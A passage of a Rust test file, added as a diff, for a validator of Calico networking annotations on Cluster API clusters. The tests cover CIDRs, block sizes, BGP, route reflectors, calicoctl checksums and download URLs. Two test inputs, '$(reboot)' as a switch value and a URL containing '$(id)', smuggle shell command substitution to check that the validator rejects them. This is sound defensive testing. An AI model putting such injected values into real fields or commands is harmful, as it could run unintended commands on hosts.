@@ -1,0 +1,1154 @@
+//! Tests of [`resolve`]: the opt-in switch, every key's rules as seen through `resolve`, and the combinations.
+
+use std::collections::BTreeMap;
+
+use base64::Engine as _;
+use proptest::prelude::*;
+
+use super::*;
+
+const RR: &str = "apiVersion: projectcalico.org/v3
+kind: BGPPeer
+metadata:
+  name: rr1
+spec:
+  peerIP: 172.16.20.1
+  asNumber: 65100
+";
+
+fn rr_b64(text: &str) -> String {
+    base64::engine::general_purpose::STANDARD.encode(text)
+}
+
+fn annotations(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
+    pairs
+        .iter()
+        .map(|(k, v)| (format!("{PREFIX}{k}"), (*v).to_string()))
+        .collect()
+}
+
+fn opted_in(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
+    let mut all = annotations(pairs);
+    all.entry(format!("{PREFIX}CUSTOM_CALICO_DEPLOYMENT"))
+        .or_insert_with(|| "true".to_string());
+    all
+}
+
+fn network(blocks: &[&str]) -> ClusterNetwork {
+    ClusterNetwork {
+        pod_cidrs: blocks
+            .iter()
+            .map(|b| b.parse().expect("test cidr"))
+            .collect(),
+    }
+}
+
+fn settings(pairs: &[(&str, &str)], net: Option<&ClusterNetwork>) -> (Settings, Vec<String>) {
+    match resolve(&opted_in(pairs), net) {
+        Resolution::OptedIn { settings, warnings } => (*settings, warnings),
+        other => panic!("expected OptedIn for {pairs:?}, got {other:#?}"),
+    }
+}
+
+fn problems(pairs: &[(&str, &str)], net: Option<&ClusterNetwork>) -> Vec<Problem> {
+    match resolve(&opted_in(pairs), net) {
+        Resolution::Invalid { problems } => problems,
+        other => panic!("expected Invalid for {pairs:?}, got {other:#?}"),
+    }
+}
+
+fn rules_of(problems: &[Problem]) -> Vec<&'static str> {
+    problems.iter().map(|p| p.rule).collect()
+}
+
+// ------------------------------------------------------------------------------------------------------------
+// The switch
+
+#[test]
+fn not_opted_in_table() {
+    let cases: &[(&[(&str, &str)], usize)] = &[
+        (&[], 0),
+        (&[("CUSTOM_CALICO_DEPLOYMENT", "false")], 0),
+        (&[("CALICO_BLOCK_SIZE", "19")], 1),
+        (
+            &[
+                ("CUSTOM_CALICO_DEPLOYMENT", "false"),
+                ("CALICO_BLOCKSIZE", "nonsense"),
+                ("A", "1"),
+                ("B", "2"),
+            ],
+            1,
+        ),
+    ];
+    for (pairs, warnings_len) in cases {
+        let mut all = annotations(pairs);
+        all.insert("other.io/thing".into(), "x".into());
+        match resolve(&all, None) {
+            Resolution::NotOptedIn { warnings } => {
+                assert_eq!(warnings.len(), *warnings_len, "{pairs:?}");
+                for w in &warnings {
+                    assert!(
+                        w.contains("CUSTOM_CALICO_DEPLOYMENT is not \"true\""),
+                        "{w}"
+                    );
+                    assert!(w.chars().count() < 120, "{w}");
+                }
+            }
+            other => panic!("{pairs:?}: {other:#?}"),
+        }
+    }
+    let all = annotations(&[
+        ("CUSTOM_CALICO_DEPLOYMENT", "false"),
+        ("CALICO_BLOCK_SIZE", "26"),
+        ("X", "1"),
+        ("Y", "1"),
+    ]);
+    let Resolution::NotOptedIn { warnings } = resolve(&all, None) else {
+        panic!("not opted in")
+    };
+    assert_eq!(
+        warnings,
+        vec![
+            "capi-calico.io/ annotations ignored, CUSTOM_CALICO_DEPLOYMENT is not \"true\": CALICO_BLOCK_SIZE +2 more"
+        ]
+    );
+}
+
+#[test]
+fn invalid_switch_table() {
+    let cases: &[(&str, Option<&str>)] = &[
+        ("True", Some("true")),
+        ("TRUE", Some("true")),
+        ("yes", Some("true")),
+        ("1", Some("true")),
+        ("False", Some("false")),
+        ("no", Some("false")),
+        ("", None),
+        ("$(reboot)", None),
+    ];
+    for (value, suggestion) in cases {
+        let all = annotations(&[
+            ("CUSTOM_CALICO_DEPLOYMENT", value),
+            ("CALICO_BLOCK_SIZE", "19"),
+        ]);
+        let Resolution::Invalid { problems } = resolve(&all, None) else {
+            panic!("{value}")
+        };
+        assert_eq!(
+            problems.len(),
+            1,
+            "only the switch is reported: {problems:#?}"
+        );
+        assert_eq!(problems[0].rule, rules::OPT_IN_INVALID);
+        assert_eq!(problems[0].key, "capi-calico.io/CUSTOM_CALICO_DEPLOYMENT");
+        if let Some(s) = suggestion {
+            assert!(
+                problems[0]
+                    .message
+                    .contains(&format!("did you mean \"{s}\"?")),
+                "{}",
+                problems[0]
+            );
+        }
+    }
+}
+
+#[test]
+fn has_settings_only_looks_at_the_prefix() {
+    assert!(!has_settings(&BTreeMap::new()));
+    assert!(!has_settings(
+        &[("capi-calico.io-x/A".to_string(), String::new())].into()
+    ));
+    assert!(has_settings(&annotations(&[("ANY", "")])));
+}
+
+// ------------------------------------------------------------------------------------------------------------
+// Defaults
+
+#[test]
+fn defaults() {
+    let net = network(&["100.96.0.0/11"]);
+    let (s, warnings) = settings(&[], Some(&net));
+    assert!(warnings.is_empty(), "{warnings:?}");
+    assert_eq!(s.bgp, BgpOption::Disabled);
+    assert_eq!(
+        s.pod_pool,
+        Some(PodPool {
+            cidr: "100.96.0.0/11".parse().expect("cidr"),
+            block_size: 28
+        })
+    );
+    assert_eq!(s.encapsulation, Encapsulation::VxlanCrossSubnet);
+    assert_eq!(s.nat_outgoing, NatOutgoing::Enabled);
+    assert!(!s.install_calicoctl);
+    assert!(!s.configure_bgp);
+    assert_eq!(s.as_number, None);
+    assert!(s.route_reflectors.is_empty());
+    assert_eq!(s.calico_version.to_string(), "v3.31.7");
+    assert_eq!(s.calicoctl.url_template, values::DEFAULT_URL_TEMPLATE);
+    assert_eq!(
+        s.calicoctl.sha256_amd64,
+        Some(Sha256Hex(
+            "1b91928adc39861ba5e04d8d15c4ce489731269b07a8e7444c0fdf677f041113".into()
+        ))
+    );
+    assert_eq!(
+        s.calicoctl.sha256_arm64,
+        Some(Sha256Hex(
+            "d7adff41398cb77b97451bf238022376382725ff231228f78b3ebc35d9fb9fda".into()
+        ))
+    );
+    // No Cluster known: no pool.
+    assert_eq!(settings(&[], None).0.pod_pool, None);
+    assert_eq!(settings(&[], Some(&network(&[]))).0.pod_pool, None);
+}
+
+// ------------------------------------------------------------------------------------------------------------
+// Keys
+
+#[test]
+fn unknown_keys_table() {
+    let cases: &[(&str, Option<&str>)] = &[
+        ("CALICO_BLOCKSIZE", Some("CALICO_BLOCK_SIZE")),
+        ("calico_pod_cidr", Some("CALICO_POD_CIDR")),
+        ("CALICO_BGP_AS_NUMBR", Some("CALICO_BGP_AS_NUMBER")),
+        ("CALICOCTL_SHA256_ARM", Some("CALICOCTL_SHA256_ARM64")),
+        ("TYPHA_REPLICAS", None),
+        ("", None),
+    ];
+    for (key, suggestion) in cases {
+        let p = problems(&[(key, "26")], None);
+        assert_eq!(rules_of(&p), vec![rules::UNKNOWN_KEY], "{key}");
+        assert_eq!(p[0].key, format!("capi-calico.io/{key}"));
+        match suggestion {
+            Some(s) => assert!(
+                p[0].message
+                    .contains(&format!("did you mean \"capi-calico.io/{s}\"?")),
+                "{}",
+                p[0]
+            ),
+            None => assert!(p[0].message.contains("known settings are"), "{}", p[0]),
+        }
+    }
+    let p = problems(&[("CALICO_BLOCKSIZE", "26")], None);
+    assert_eq!(
+        p[0].to_string(),
+        "capi-calico.io/CALICO_BLOCKSIZE: \"26\" is not a known setting: did you mean \"capi-calico.io/CALICO_BLOCK_SIZE\"?"
+    );
+}
+
+#[test]
+fn enum_and_bool_suggestions_through_resolve() {
+    let cases: &[(&str, &str, &str)] = &[
+        ("CALICO_BGP_OPTION", "enabled", "did you mean \"Enabled\"?"),
+        (
+            "CALICO_NAT_OUTGOING",
+            "DISABLED",
+            "did you mean \"Disabled\"?",
+        ),
+        ("CALICO_ENCAPSULATION", "vxlan", "did you mean \"VXLAN\"?"),
+        (
+            "CALICO_ENCAPSULATION",
+            "ipipcrosssubnet",
+            "did you mean \"IPIPCrossSubnet\"?",
+        ),
+        ("INSTALL_CALICOCTL", "True", "did you mean \"true\"?"),
+        (
+            "CONFIGURE_CALICO_BGP_SETTINGS",
+            "no",
+            "did you mean \"false\"?",
+        ),
+    ];
+    for (key, value, text) in cases {
+        let p = problems(&[(key, value)], None);
+        assert_eq!(p.len(), 1, "{p:#?}");
+        assert!(p[0].message.contains(text), "{}", p[0]);
+        assert_eq!(p[0].value.as_deref(), Some(format!("\"{value}\"").as_str()));
+    }
+    let p = problems(&[("CALICO_BGP_OPTION", "enabled")], None);
+    assert_eq!(
+        p[0].to_string(),
+        "capi-calico.io/CALICO_BGP_OPTION: \"enabled\" is not valid: did you mean \"Enabled\"? Values are case-sensitive, one of: Enabled, Disabled"
+    );
+}
+
+// ------------------------------------------------------------------------------------------------------------
+// Pool: CIDR, block size, Cluster blocks
+
+#[test]
+fn pool_table() {
+    let v4 = network(&["100.96.0.0/11"]);
+    let dual = network(&["10.244.0.0/16", "fd00:10:244::/56"]);
+    let v6_first = network(&["fd00:10:244::/56", "10.244.0.0/16"]);
+    let none = network(&[]);
+    let tiny = network(&["10.0.0.0/30"]);
+    type Case<'a> = (
+        &'a [(&'a str, &'a str)],
+        Option<&'a ClusterNetwork>,
+        Result<Option<(&'a str, u8)>, &'a str>,
+    );
+    let cases: Vec<Case> = vec![
+        // Defaults from the Cluster.
+        (&[], Some(&v4), Ok(Some(("100.96.0.0/11", 28)))),
+        (&[], Some(&dual), Ok(Some(("10.244.0.0/16", 28)))),
+        (&[], Some(&v6_first), Ok(Some(("fd00:10:244::/56", 122)))),
+        (
+            &[("CALICO_BLOCK_SIZE", "26")],
+            Some(&dual),
+            Ok(Some(("10.244.0.0/16", 26))),
+        ),
+        (
+            &[("CALICO_BLOCK_SIZE", "120")],
+            Some(&dual),
+            Ok(Some(("fd00:10:244::/56", 120))),
+        ),
+        (
+            &[("CALICO_BLOCK_SIZE", "120")],
+            Some(&v4),
+            Err(rules::BLOCK_SIZE_FAMILY),
+        ),
+        // Explicit CIDR inside / outside the Cluster's blocks.
+        (
+            &[("CALICO_POD_CIDR", "100.96.16.0/20")],
+            Some(&v4),
+            Ok(Some(("100.96.16.0/20", 28))),
+        ),
+        (
+            &[("CALICO_POD_CIDR", "100.96.0.0/11")],
+            Some(&v4),
+            Ok(Some(("100.96.0.0/11", 28))),
+        ),
+        (
+            &[("CALICO_POD_CIDR", "172.16.28.0/24")],
+            Some(&v4),
+            Err(rules::POD_CIDR_OUTSIDE_CLUSTER),
+        ),
+        (
+            &[("CALICO_POD_CIDR", "100.64.0.0/10")],
+            Some(&v4),
+            Err(rules::POD_CIDR_OUTSIDE_CLUSTER),
+        ),
+        (
+            &[("CALICO_POD_CIDR", "fd00:10:244:1::/64")],
+            Some(&dual),
+            Ok(Some(("fd00:10:244:1::/64", 122))),
+        ),
+        (
+            &[("CALICO_POD_CIDR", "fd00:10:245::/64")],
+            Some(&dual),
+            Err(rules::POD_CIDR_OUTSIDE_CLUSTER),
+        ),
+        (
+            &[("CALICO_POD_CIDR", "172.16.28.0/24")],
+            None,
+            Ok(Some(("172.16.28.0/24", 28))),
+        ),
+        (
+            &[("CALICO_POD_CIDR", "172.16.28.0/24")],
+            Some(&none),
+            Ok(Some(("172.16.28.0/24", 28))),
+        ),
+        (
+            &[("CALICO_POD_CIDR", "172.16.28.1/24")],
+            None,
+            Err(rules::POD_CIDR_HOST_BITS),
+        ),
+        (
+            &[("CALICO_POD_CIDR", "169.254.0.0/16")],
+            None,
+            Err(rules::POD_CIDR_LINK_LOCAL),
+        ),
+        (
+            &[("CALICO_POD_CIDR", "fe80::/64")],
+            None,
+            Err(rules::POD_CIDR_LINK_LOCAL),
+        ),
+        (
+            &[("CALICO_POD_CIDR", "nonsense")],
+            None,
+            Err(rules::POD_CIDR_FORMAT),
+        ),
+        // Block size vs prefix and family.
+        (
+            &[("CALICO_POD_CIDR", "10.0.0.0/30")],
+            None,
+            Err(rules::BLOCK_SIZE_PREFIX),
+        ),
+        (
+            &[
+                ("CALICO_POD_CIDR", "10.0.0.0/26"),
+                ("CALICO_BLOCK_SIZE", "26"),
+            ],
+            None,
+            Ok(Some(("10.0.0.0/26", 26))),
+        ),
+        (
+            &[
+                ("CALICO_POD_CIDR", "10.0.0.0/24"),
+                ("CALICO_BLOCK_SIZE", "20"),
+            ],
+            None,
+            Err(rules::BLOCK_SIZE_PREFIX),
+        ),
+        (
+            &[
+                ("CALICO_POD_CIDR", "10.0.0.0/16"),
+                ("CALICO_BLOCK_SIZE", "122"),
+            ],
+            None,
+            Err(rules::BLOCK_SIZE_RANGE),
+        ),
+        (
+            &[
+                ("CALICO_POD_CIDR", "fd00::/48"),
+                ("CALICO_BLOCK_SIZE", "26"),
+            ],
+            None,
+            Err(rules::BLOCK_SIZE_RANGE),
+        ),
+        (
+            &[
+                ("CALICO_POD_CIDR", "fd00::/48"),
+                ("CALICO_BLOCK_SIZE", "116"),
+            ],
+            None,
+            Ok(Some(("fd00::/48", 116))),
+        ),
+        (
+            &[("CALICO_BLOCK_SIZE", "19")],
+            Some(&v4),
+            Err(rules::BLOCK_SIZE_RANGE),
+        ),
+        (
+            &[("CALICO_BLOCK_SIZE", "+26")],
+            Some(&v4),
+            Err(rules::BLOCK_SIZE_FORMAT),
+        ),
+        (&[], Some(&tiny), Err(rules::BLOCK_SIZE_PREFIX)),
+        // Block size with no pool: accepted, warned, no pool.
+        (&[("CALICO_BLOCK_SIZE", "26")], None, Ok(None)),
+    ];
+    for (pairs, net, want) in cases {
+        match want {
+            Ok(pool) => {
+                let (s, _) = settings(pairs, net);
+                let got = s.pod_pool.map(|p| (p.cidr.to_string(), p.block_size));
+                assert_eq!(
+                    got,
+                    pool.map(|(c, b)| (c.to_string(), b)),
+                    "{pairs:?} {net:?}"
+                );
+            }
+            Err(rule) => {
+                let p = problems(pairs, net);
+                assert_eq!(rules_of(&p), vec![rule], "{pairs:?} {net:?}: {p:#?}");
+            }
+        }
+    }
+}
+
+#[test]
+fn pool_messages() {
+    let v4 = network(&["100.96.0.0/11"]);
+    let p = problems(&[("CALICO_BLOCK_SIZE", "19")], Some(&v4));
+    assert_eq!(
+        p[0].to_string(),
+        "capi-calico.io/CALICO_BLOCK_SIZE: \"19\" is out of range: a block size must be between 20 and 32 for IPv4 (default 28) or between 116 and 128 for IPv6 (default 122)"
+    );
+    let p = problems(
+        &[
+            ("CALICO_POD_CIDR", "10.0.0.0/16"),
+            ("CALICO_BLOCK_SIZE", "122"),
+        ],
+        None,
+    );
+    assert!(
+        p[0].message.starts_with(
+            "is out of range: an IPv4 block size must be between 20 and 32 (default 28)"
+        ),
+        "{}",
+        p[0]
+    );
+    let p = problems(&[("CALICO_POD_CIDR", "172.16.28.0/24")], Some(&v4));
+    assert!(
+        p[0].message.contains("pod cidrBlocks (100.96.0.0/11)"),
+        "{}",
+        p[0]
+    );
+    let p = problems(&[("CALICO_POD_CIDR", "10.1.2.3/16")], None);
+    assert!(
+        p[0].message.contains("did you mean 10.1.0.0/16?"),
+        "{}",
+        p[0]
+    );
+    let p = problems(&[], Some(&network(&["10.0.0.0/30"])));
+    assert!(
+        p[0].to_string()
+            .starts_with("capi-calico.io/CALICO_BLOCK_SIZE (not set, default 28) is smaller"),
+        "{}",
+        p[0]
+    );
+    let (_, warnings) = settings(&[("CALICO_BLOCK_SIZE", "26")], None);
+    assert_eq!(warnings.len(), 1);
+    assert!(warnings[0].contains("no pod CIDR is known"), "{warnings:?}");
+}
+
+// ------------------------------------------------------------------------------------------------------------
+// Encapsulation and BGP
+
+#[test]
+fn encapsulation_table() {
+    let v6 = network(&["fd00:10:244::/56"]);
+    type Case<'a> = (
+        &'a [(&'a str, &'a str)],
+        Option<&'a ClusterNetwork>,
+        &'a [&'a str],
+    );
+    let cases: &[Case] = &[
+        (&[("CALICO_ENCAPSULATION", "VXLAN")], None, &[]),
+        (
+            &[("CALICO_ENCAPSULATION", "VXLANCrossSubnet")],
+            Some(&v6),
+            &[],
+        ),
+        (
+            &[("CALICO_ENCAPSULATION", "IPIP")],
+            None,
+            &[rules::ENCAPSULATION_NEEDS_BGP],
+        ),
+        (
+            &[
+                ("CALICO_ENCAPSULATION", "IPIPCrossSubnet"),
+                ("CALICO_BGP_OPTION", "Disabled"),
+            ],
+            None,
+            &[rules::ENCAPSULATION_NEEDS_BGP],
+        ),
+        (
+            &[("CALICO_ENCAPSULATION", "None")],
+            None,
+            &[rules::ENCAPSULATION_NEEDS_BGP],
+        ),
+        (
+            &[
+                ("CALICO_ENCAPSULATION", "None"),
+                ("CALICO_BGP_OPTION", "Enabled"),
+            ],
+            None,
+            &[],
+        ),
+        (
+            &[
+                ("CALICO_ENCAPSULATION", "IPIP"),
+                ("CALICO_BGP_OPTION", "Enabled"),
+            ],
+            None,
+            &[],
+        ),
+        (
+            &[
+                ("CALICO_ENCAPSULATION", "IPIP"),
+                ("CALICO_BGP_OPTION", "Enabled"),
+            ],
+            Some(&v6),
+            &[rules::ENCAPSULATION_IPIP_IPV6],
+        ),
+        (
+            &[("CALICO_ENCAPSULATION", "IPIPCrossSubnet")],
+            Some(&v6),
+            &[
+                rules::ENCAPSULATION_NEEDS_BGP,
+                rules::ENCAPSULATION_IPIP_IPV6,
+            ],
+        ),
+        (
+            &[
+                ("CALICO_ENCAPSULATION", "None"),
+                ("CALICO_BGP_OPTION", "Enabled"),
+            ],
+            Some(&v6),
+            &[],
+        ),
+        // An invalid BGP option does not add a second complaint.
+        (
+            &[
+                ("CALICO_ENCAPSULATION", "IPIP"),
+                ("CALICO_BGP_OPTION", "on"),
+            ],
+            None,
+            &[rules::ENUM_INVALID],
+        ),
+    ];
+    for (pairs, net, want) in cases {
+        match resolve(&opted_in(pairs), *net) {
+            Resolution::OptedIn { .. } => assert!(want.is_empty(), "{pairs:?}: expected {want:?}"),
+            Resolution::Invalid { problems } => assert_eq!(rules_of(&problems), *want, "{pairs:?}"),
+            other => panic!("{other:#?}"),
+        }
+    }
+    let p = problems(&[("CALICO_ENCAPSULATION", "IPIP")], None);
+    assert!(
+        p[0].message
+            .contains("needs capi-calico.io/CALICO_BGP_OPTION=Enabled"),
+        "{}",
+        p[0]
+    );
+    assert!(p[0].message.contains("Disabled by default"), "{}", p[0]);
+}
+
+#[test]
+fn as_number_through_resolve() {
+    let cases: &[(&str, Result<u32, &str>)] = &[
+        ("65100", Ok(65_100)),
+        ("1.10", Ok(65_546)),
+        ("2147483647", Ok(2_147_483_647)),
+        ("0", Err(rules::AS_NUMBER_RESERVED)),
+        ("2147483648", Err(rules::AS_NUMBER_RANGE)),
+        ("65536.1", Err(rules::AS_NUMBER_RANGE)),
+        ("AS65100", Err(rules::AS_NUMBER_FORMAT)),
+    ];
+    for (raw, want) in cases {
+        let pairs = [("CALICO_BGP_AS_NUMBER", *raw)];
+        match want {
+            Ok(n) => assert_eq!(settings(&pairs, None).0.as_number, Some(*n), "{raw}"),
+            Err(rule) => assert_eq!(rules_of(&problems(&pairs, None)), vec![*rule], "{raw}"),
+        }
+    }
+    let p = problems(&[("CALICO_BGP_AS_NUMBER", "0")], None);
+    assert!(
+        p[0].message
+            .contains("private AS number from 64512 to 65534"),
+        "{}",
+        p[0]
+    );
+    // Set without CONFIGURE_CALICO_BGP_SETTINGS: accepted with a warning.
+    let (_, warnings) = settings(&[("CALICO_BGP_AS_NUMBER", "65100")], None);
+    assert!(
+        warnings
+            .iter()
+            .any(|w| w.contains("CALICO_BGP_AS_NUMBER is not applied")),
+        "{warnings:?}"
+    );
+}
+
+#[test]
+fn bgp_settings_prerequisites_table() {
+    let rr = rr_b64(RR);
+    let full: Vec<(&str, &str)> = vec![
+        ("CONFIGURE_CALICO_BGP_SETTINGS", "true"),
+        ("INSTALL_CALICOCTL", "true"),
+        ("CALICO_BGP_OPTION", "Enabled"),
+        ("CALICO_BGP_AS_NUMBER", "65100"),
+        ("CALICO_ROUTE_REFLECTORS", rr.as_str()),
+    ];
+    let (s, warnings) = settings(&full, None);
+    assert!(s.configure_bgp && s.install_calicoctl);
+    assert_eq!(s.bgp, BgpOption::Enabled);
+    assert_eq!(s.as_number, Some(65_100));
+    assert_eq!(s.route_reflectors.len(), 1);
+    assert_eq!(s.route_reflectors[0].name, "rr1");
+    assert!(warnings.is_empty(), "{warnings:?}");
+
+    // Drop or break each prerequisite in turn: exactly that one is named.
+    let cases: &[(&str, Option<&str>, &str)] = &[
+        (
+            "INSTALL_CALICOCTL",
+            None,
+            "capi-calico.io/INSTALL_CALICOCTL is not set",
+        ),
+        (
+            "INSTALL_CALICOCTL",
+            Some("false"),
+            "capi-calico.io/INSTALL_CALICOCTL: \"false\" must be \"true\"",
+        ),
+        (
+            "CALICO_BGP_OPTION",
+            None,
+            "capi-calico.io/CALICO_BGP_OPTION is not set",
+        ),
+        (
+            "CALICO_BGP_OPTION",
+            Some("Disabled"),
+            "capi-calico.io/CALICO_BGP_OPTION: \"Disabled\" must be \"Enabled\"",
+        ),
+        (
+            "CALICO_BGP_AS_NUMBER",
+            None,
+            "capi-calico.io/CALICO_BGP_AS_NUMBER is not set",
+        ),
+        (
+            "CALICO_ROUTE_REFLECTORS",
+            None,
+            "capi-calico.io/CALICO_ROUTE_REFLECTORS is not set or empty",
+        ),
+        (
+            "CALICO_ROUTE_REFLECTORS",
+            Some(""),
+            "capi-calico.io/CALICO_ROUTE_REFLECTORS is not set or empty",
+        ),
+    ];
+    for (key, replacement, text) in cases {
+        let pairs: Vec<(&str, &str)> = full
+            .iter()
+            .filter_map(|(k, v)| {
+                if k == key {
+                    replacement.map(|r| (*k, r))
+                } else {
+                    Some((*k, *v))
+                }
+            })
+            .collect();
+        let p = problems(&pairs, None);
+        assert_eq!(
+            rules_of(&p),
+            vec![rules::BGP_SETTINGS_PREREQUISITE],
+            "{key}: {p:#?}"
+        );
+        assert!(p[0].to_string().starts_with(text), "{}", p[0]);
+        assert!(
+            p[0].message
+                .contains("CONFIGURE_CALICO_BGP_SETTINGS=true needs"),
+            "{}",
+            p[0]
+        );
+    }
+    // Everything missing at once: four problems, all named.
+    let p = problems(&[("CONFIGURE_CALICO_BGP_SETTINGS", "true")], None);
+    let keys: Vec<&str> = p.iter().map(|p| p.key.as_str()).collect();
+    assert_eq!(
+        keys,
+        vec![
+            "capi-calico.io/INSTALL_CALICOCTL",
+            "capi-calico.io/CALICO_BGP_OPTION",
+            "capi-calico.io/CALICO_BGP_AS_NUMBER",
+            "capi-calico.io/CALICO_ROUTE_REFLECTORS"
+        ]
+    );
+    // An invalid prerequisite is reported once, as invalid, not also as missing.
+    let mut broken = full.clone();
+    broken[3] = ("CALICO_BGP_AS_NUMBER", "0");
+    assert_eq!(
+        rules_of(&problems(&broken, None)),
+        vec![rules::AS_NUMBER_RESERVED]
+    );
+}
+
+#[test]
+fn route_reflectors_through_resolve() {
+    let design_doc = format!(
+        "{RR}---\n{}",
+        RR.replace("rr1", "rr2")
+            .replace("20.1", "20.2")
+            .replace("65100", "0")
+    );
+    let pairs = [
+        ("CALICO_BGP_AS_NUMBER", "65100"),
+        ("CALICO_ROUTE_REFLECTORS", &rr_b64(&design_doc)),
+    ];
+    let p = problems(&pairs, None);
+    assert_eq!(rules_of(&p), vec![rules::BGP_PEER_AS_NUMBER]);
+    assert_eq!(p[0].value, None);
+    let line = p[0].to_string();
+    assert!(
+        line.starts_with("capi-calico.io/CALICO_ROUTE_REFLECTORS document 2 (BGPPeer \"rr2\"): spec.asNumber 0 is not allowed"),
+        "{line}"
+    );
+    assert!(
+        line.contains("e.g. 65100, the same as CALICO_BGP_AS_NUMBER"),
+        "{line}"
+    );
+    // Encoding problems show the (truncated) value.
+    let wrapped = format!("{}\n{}", &rr_b64(RR)[..40], &rr_b64(RR)[40..]);
+    let p = problems(&[("CALICO_ROUTE_REFLECTORS", &wrapped)], None);
+    assert_eq!(rules_of(&p), vec![rules::ROUTE_REFLECTORS_ENCODING]);
+    let value = p[0].value.as_deref().unwrap_or_default();
+    assert!(
+        value.contains("\\n") && value.ends_with("bytes)"),
+        "{value}"
+    );
+    // Present without CONFIGURE_CALICO_BGP_SETTINGS: validated, kept, warned.
+    let (s, warnings) = settings(&[("CALICO_ROUTE_REFLECTORS", &rr_b64(RR))], None);
+    assert_eq!(s.route_reflectors.len(), 1);
+    assert!(!s.configure_bgp);
+    assert!(
+        warnings
+            .iter()
+            .any(|w| w.contains("CALICO_ROUTE_REFLECTORS is not applied")),
+        "{warnings:?}"
+    );
+}
+
+// ------------------------------------------------------------------------------------------------------------
+// Version, URL, checksums
+
+#[test]
+fn version_and_checksums_table() {
+    let sha = "AB".repeat(32);
+    let lower = "ab".repeat(32);
+    type Case<'a> = (
+        Vec<(&'a str, &'a str)>,
+        Result<(Option<&'a str>, Option<&'a str>), &'a str>,
+    );
+    let cases: Vec<Case> = vec![
+        (
+            vec![("CALICO_VERSION", "v3.30.7")],
+            Ok((
+                Some("087e1547878913587ebaa756686f38184a730e9af9b71f3d91b92f6c99b60c11"),
+                Some("e62d6f909d72bfd8876a363c3f49cda722d7bfdb282a4bbdeca38dd7e26e7578"),
+            )),
+        ),
+        (
+            vec![("CALICO_VERSION", "v3.29.7")],
+            Ok((
+                Some("c4e281a404d14da561c65838195b2a4bcf18aebca1bede5ef6b99e0bf78cb8a0"),
+                Some("484479aa441401adf0db2effb911562d25a4c9a3f022aa6a3b082d027108edec"),
+            )),
+        ),
+        (
+            vec![("CALICO_VERSION", "v3.32.3")],
+            Err(rules::VERSION_UNVERIFIED),
+        ),
+        (
+            vec![
+                ("CALICO_VERSION", "v3.32.3"),
+                ("CALICOCTL_SHA256_AMD64", &sha),
+            ],
+            Ok((Some(&lower), None)),
+        ),
+        (
+            vec![
+                ("CALICO_VERSION", "v3.32.3"),
+                ("CALICOCTL_SHA256_ARM64", &sha),
+            ],
+            Ok((None, Some(&lower))),
+        ),
+        (
+            vec![
+                ("CALICO_VERSION", "v3.32.3"),
+                ("CALICOCTL_SHA256_AMD64", &sha),
+                ("CALICOCTL_SHA256_ARM64", &sha),
+            ],
+            Ok((Some(&lower), Some(&lower))),
+        ),
+        (
+            vec![
+                ("CALICO_VERSION", "v3.32.3"),
+                ("CALICOCTL_SHA256_AMD64", "xyz"),
+            ],
+            Err(rules::SHA256_FORMAT),
+        ),
+        (
+            vec![("CALICO_VERSION", "3.31.7")],
+            Err(rules::VERSION_FORMAT),
+        ),
+        (
+            vec![("CALICOCTL_SHA256_AMD64", &sha)],
+            Ok((
+                Some(&lower),
+                Some("d7adff41398cb77b97451bf238022376382725ff231228f78b3ebc35d9fb9fda"),
+            )),
+        ),
+    ];
+    for (pairs, want) in cases {
+        match want {
+            Ok((amd64, arm64)) => {
+                let (s, _) = settings(&pairs, None);
+                assert_eq!(
+                    s.calicoctl.sha256_amd64.as_ref().map(|s| s.0.as_str()),
+                    amd64,
+                    "{pairs:?}"
+                );
+                assert_eq!(
+                    s.calicoctl.sha256_arm64.as_ref().map(|s| s.0.as_str()),
+                    arm64,
+                    "{pairs:?}"
+                );
+            }
+            Err(rule) => assert_eq!(rules_of(&problems(&pairs, None)), vec![rule], "{pairs:?}"),
+        }
+    }
+    let p = problems(&[("CALICO_VERSION", "v3.32.3")], None);
+    assert!(
+        p[0].message.contains("built in: v3.31.7, v3.30.7, v3.29.7"),
+        "{}",
+        p[0]
+    );
+    assert!(p[0].message.contains("never installed"), "{}", p[0]);
+    let p = problems(&[("CALICO_VERSION", "3.31.7")], None);
+    assert!(
+        p[0].message.contains("did you mean \"v3.31.7\"?"),
+        "{}",
+        p[0]
+    );
+    // One architecture only, installing: warning about the other.
+    let (_, warnings) = settings(
+        &[
+            ("CALICO_VERSION", "v3.32.3"),
+            ("CALICOCTL_SHA256_AMD64", &sha),
+            ("INSTALL_CALICOCTL", "true"),
+        ],
+        None,
+    );
+    assert_eq!(warnings.len(), 1, "{warnings:?}");
+    assert!(
+        warnings[0].contains("no arm64 calicoctl checksum for v3.32.3: arm64 nodes will refuse"),
+        "{warnings:?}"
+    );
+    // Overriding a built-in checksum: warning.
+    let (_, warnings) = settings(
+        &[
+            ("CALICOCTL_SHA256_AMD64", &sha),
+            ("INSTALL_CALICOCTL", "true"),
+        ],
+        None,
+    );
+    assert!(
+        warnings
+            .iter()
+            .any(|w| w.contains("differs from the built-in checksum")),
+        "{warnings:?}"
+    );
+}
+
+#[test]
+fn url_through_resolve() {
+    let (s, warnings) = settings(
+        &[
+            (
+                "CALICOCTL_URL",
+                "https://mirror.local:8443/calico/{version}/calicoctl-{arch}",
+            ),
+            ("INSTALL_CALICOCTL", "true"),
+        ],
+        None,
+    );
+    assert_eq!(
+        s.calicoctl.url_template,
+        "https://mirror.local:8443/calico/{version}/calicoctl-{arch}"
+    );
+    assert!(warnings.is_empty(), "{warnings:?}");
+    let (_, warnings) = settings(
+        &[
+            ("CALICOCTL_URL", "http://mirror.local/{version}/{arch}"),
+            ("INSTALL_CALICOCTL", "true"),
+        ],
+        None,
+    );
+    assert_eq!(warnings.len(), 1);
+    assert!(warnings[0].contains("uses http://"), "{warnings:?}");
+    let (_, warnings) = settings(
+        &[("CALICOCTL_URL", "https://mirror.local/{version}/{arch}")],
+        None,
+    );
+    assert!(
+        warnings
+            .iter()
+            .any(|w| w.contains("INSTALL_CALICOCTL is not \"true\"")),
+        "{warnings:?}"
+    );
+    for bad in [
+        "https://mirror.local/$(id)/{version}/{arch}",
+        "https://mirror.local/{version}",
+        "file:///{version}/{arch}",
+    ] {
+        assert_eq!(
+            rules_of(&problems(&[("CALICOCTL_URL", bad)], None)),
+            vec![rules::URL_TEMPLATE],
+            "{bad}"
+        );
+    }
+}
+
+#[test]
+fn every_warning_is_short() {
+    let sha = "ab".repeat(32);
+    let rr = rr_b64(RR);
+    let scenarios: Vec<Vec<(&str, &str)>> = vec![
+        vec![
+            ("CALICO_ROUTE_REFLECTORS", &rr),
